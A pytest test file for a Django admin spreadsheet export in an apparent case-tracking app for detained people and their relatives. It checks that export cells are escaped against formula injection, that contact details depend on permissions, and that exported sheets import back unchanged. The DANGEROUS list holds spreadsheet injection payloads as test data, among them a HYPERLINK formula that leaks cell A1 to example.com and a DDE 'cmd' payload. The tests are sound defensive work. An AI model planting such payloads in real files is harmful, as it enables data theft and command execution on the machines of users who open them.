"""Spreadsheet export from the admin: the filtered list, cells safe from formula injection,
relatives' contact details only for those allowed, and a sheet that imports back unchanged."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from cases.formulas import escape_formula
from cases.intake.persons import import_persons
from cases.intake.petitions import import_petitions
from cases.models import DatePrecision, DetainedPerson, Kinship, Petition, Relative, Status
from tests.factories import (
    make_kinship,
    make_person,
    make_petition,
    make_relative,
    make_user,
    place,
)
from tests.intake.test_imports import admin_url, use_test_admin

pytestmark = pytest.mark.django_db

CSV, XLSX = "0", "1"  # positions in the export form's list of formats
PHONE = "+7 701 555 0142"
EMAIL = "serik@example.org"
CONTACT = "cases.view_contact_details"


@pytest.fixture(autouse=True)
def _test_admin(settings):
    use_test_admin(settings)


def export(client, model, fmt: str = CSV, query: str = "") -> bytes:
    response = client.post(admin_url(model, "export") + query, {"format": fmt, "resource": "0"})
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment;")
    return b"".join(response)


def rows_of(data: bytes, fmt: str = CSV) -> list[list[str]]:
    if fmt == XLSX:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        return [[c.value if c.value is not None else "" for c in row] for row in sheet.iter_rows()]
    return list(csv.reader(io.StringIO(data.decode("utf-8")), delimiter=";"))


def as_dicts(rows: list[list[str]]) -> list[dict[str, str]]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def family() -> DetainedPerson:
    person = make_person(
        "Айгүл Серікқызы",
        name_latin="Aigul Serikkyzy",
        status=Status.BARRED_FROM_LEAVING,
        home_place=place("ili"),
        detained_on=datetime.date(2018, 3, 1),
        detained_on_precision=DatePrecision.MONTH,
        detained_at="Құлжа, автовокзал",
        detained_by=DetainedPerson.DetainedBy.STATE_SECURITY,
        reason_given=DetainedPerson.Reason.EXTREMISM,
        birth_year=1985,
    )
    spouse = make_relative("Серік Дәулетұлы", phone=PHONE, email=EMAIL, address="Almaty")
    make_kinship(person, spouse, relationship=Kinship.Relationship.SPOUSE, separated=True)
    make_kinship(person, make_relative("Дана"), relationship=Kinship.Relationship.CHILD)
    return person


# --- Formula injection ---------------------------------------------------------------------------


DANGEROUS = ['=HYPERLINK("http://example.com/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3",
             "@SUM(A1:A9)", "\tTab", "\rReturn"]  # fmt: skip


@pytest.mark.parametrize("fmt", [CSV, XLSX])
def test_cells_that_a_spreadsheet_would_run_are_escaped(client, fmt):
    for text in DANGEROUS:
        make_person(text)
    client.force_login(make_user("coordinator", superuser=True))
    data = export(client, DetainedPerson, fmt)

    names = {row["full_name"] for row in as_dicts(rows_of(data, fmt))}
    if fmt == XLSX:  # XML reads a carriage return as a line feed
        names = {name.replace("\n", "\r") for name in names}
    assert names == {"'" + text for text in DANGEROUS}
    if fmt == XLSX:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        assert {cell.data_type for cell in sheet["B"]} == {"s"}  # text, never a formula


def test_plain_cells_are_left_as_they_are():
    assert escape_formula("Айгүл") == "Айгүл"
    assert escape_formula("2018-03") == "2018-03"
    assert escape_formula(1985) == 1985


# A name with what ends a cell or a line in CSV, and a formula behind the semicolon.
AWKWARD = 'Айгүл; =HYPERLINK("http://example.com/") , "Ана"\nекінші жол'


def test_csv_keeps_every_cell_whole_for_excel_that_splits_on_semicolons(client):
    make_person(AWKWARD, name_latin="Aigul; Serikkyzy", birth_year=1985)
    client.force_login(make_user("coordinator", superuser=True))

    data = export(client, DetainedPerson, CSV)

    # Excel in Russian and Kazakh reads a CSV file as semicolon-separated.
    rows = list(csv.reader(io.StringIO(data.decode("utf-8")), delimiter=";"))
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["full_name"], row["name_latin"]) == (AWKWARD, "Aigul; Serikkyzy")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])
    # Every cell is quoted (the sheet's cells are all text).
    assert ';"Aigul; Serikkyzy";' in data.decode() and ';"1985";' in data.decode()


# --- Contact details -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", [CSV, XLSX])
def test_relatives_export_has_contact_details_only_with_the_permission(client, fmt):
    family()
    coordinator = make_user("coordinator", perms=("cases.view_relative", CONTACT))
    advocate = make_user("advocate", perms=("cases.view_relative",))

    client.force_login(coordinator)
    allowed = as_dicts(rows_of(export(client, Relative, fmt), fmt))
    client.force_login(advocate)
    refused_data = export(client, Relative, fmt)
    refused = as_dicts(rows_of(refused_data, fmt))

    serik = next(row for row in allowed if row["full_name"] == "Серік Дәулетұлы")
    assert (serik["phone"], serik["email"], serik["address"]) == ("'" + PHONE, EMAIL, "Almaty")
    assert serik["kin_to"].endswith("(spouse)")
    assert {"phone", "email", "address"}.isdisjoint(refused[0])
    assert {row["full_name"] for row in refused} == {"Серік Дәулетұлы", "Дана"}
    if fmt == CSV:
        assert PHONE.encode() not in refused_data and EMAIL.encode() not in refused_data


def test_persons_export_has_relatives_contact_columns_only_with_the_permission(client):
    family()
    coordinator = make_user("coordinator", perms=("cases.view_detainedperson", CONTACT))
    advocate = make_user("advocate", perms=("cases.view_detainedperson",))

    client.force_login(coordinator)
    [allowed] = as_dicts(rows_of(export(client, DetainedPerson)))
    client.force_login(advocate)
    data = export(client, DetainedPerson)
    [refused] = as_dicts(rows_of(data))

    assert allowed["relative_1_full_name"] == "Серік Дәулетұлы"
    assert (allowed["relative_1_phone"], allowed["relative_1_email"]) == ("'" + PHONE, EMAIL)
    assert refused["relative_1_full_name"] == "Серік Дәулетұлы"
    assert "relative_1_phone" not in refused and "relative_1_email" not in refused
    assert PHONE.encode() not in data and EMAIL.encode() not in data


# --- What is exported ----------------------------------------------------------------------------


def test_export_holds_the_filtered_changelist_only(client):
    family()
    make_person("Болат", status=Status.RELEASED)
    client.force_login(make_user("coordinator", superuser=True))
    rows = as_dicts(rows_of(export(client, DetainedPerson, query="?status__exact=released")))

    assert [row["full_name"] for row in rows] == ["Болат"]
    assert rows[0]["status"] == "released, still in China"


def test_person_columns_read_as_the_import_template_says(client):
    person = family()
    client.force_login(make_user("coordinator", superuser=True))
    [row] = as_dicts(rows_of(export(client, DetainedPerson)))

    assert row["case_number"] == person.case_number
    assert (row["detained_on"], row["home_place"], row["birth_year"]) == ("2018-03", "Ili", "1985")
    assert (row["detained_at"], row["detained_by"], row["reason_given"]) == (
        "Құлжа, автовокзал",
        "state security",
        "“extremism” charges",
    )
    assert (row["relative_1_relationship"], row["relative_1_separated"]) == ("spouse", "yes")
    assert row["relative_2_full_name"] == "Дана" and row["relative_3_full_name"] == ""


def test_export_needs_permission_to_view(client):
    family()
    client.force_login(make_user("stranger", perms=("cases.view_petition",)))
    response = client.post(admin_url(DetainedPerson, "export"), {"format": CSV, "resource": "0"})
    assert response.status_code == 403


def test_export_costs_the_same_queries_for_few_rows_or_many(client):
    client.force_login(make_user("coordinator", superuser=True))

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            export(client, DetainedPerson)
        return len(captured)

    family()
    few = queries()
    for _ in range(20):
        family()
    DetainedPerson.objects.update(assigned_to=make_user("advocate"))
    # to prevent an n+1 issue: places and assignees joined, relatives prefetched for the whole
    # page of rows
    assert queries() == few


# --- Round trip ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", [CSV, XLSX])
def test_an_exported_sheet_imports_back_without_changes(client, fmt):
    family()
    make_person("=Formula-like name", status=Status.UNKNOWN)
    coordinator = make_user("coordinator", superuser=True)
    client.force_login(coordinator)
    report = import_persons(export(client, DetainedPerson, fmt), user=coordinator, dry_run=False)

    assert report.ok, report.errors
    assert [row.action for row in report.rows] == ["unchanged", "unchanged"]
    assert DetainedPerson.objects.count() == 2 and Relative.objects.count() == 2


def test_exported_petitions_import_back_without_changes(client):
    person = family()
    make_petition(person, authority="mfa", our_reference="A-1")
    coordinator = make_user("coordinator", superuser=True)
    client.force_login(coordinator)
    data = export(client, Petition)
    [row] = as_dicts(rows_of(data))
    report = import_petitions(data, user=coordinator, dry_run=False)

    assert (row["case_numbers"], row["status"]) == (person.case_number, "submitted")
    assert report.ok, report.errors
    assert [r.action for r in report.rows] == ["unchanged"]
    assert Petition.objects.count() == 1


def test_the_assignee_is_exported_by_username_and_imports_back(client):
    coordinator = make_user("coordinator", superuser=True)
    family()
    DetainedPerson.objects.update(assigned_to=coordinator)
    make_person("Болат Ержанұлы")
    client.force_login(coordinator)
    data = export(client, DetainedPerson)
    rows = as_dicts(rows_of(data))
    report = import_persons(data, user=coordinator, dry_run=False)

    assert sorted(row["assigned_to"] for row in rows) == ["", "coordinator"]
    assert report.ok, report.errors
    assert [r.action for r in report.rows] == ["unchanged", "unchanged"]
